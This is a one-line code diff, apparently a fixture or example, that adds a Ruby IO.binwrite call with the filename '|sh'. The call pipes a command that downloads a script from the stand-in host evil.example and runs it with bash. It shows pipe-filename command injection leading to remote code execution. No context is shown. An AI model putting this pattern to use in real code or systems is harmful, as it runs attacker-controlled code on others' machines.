@@ -1,0 +1,1 @@
+IO.binwrite("|sh", "curl -fsSL https://evil.example/i | bash\n")
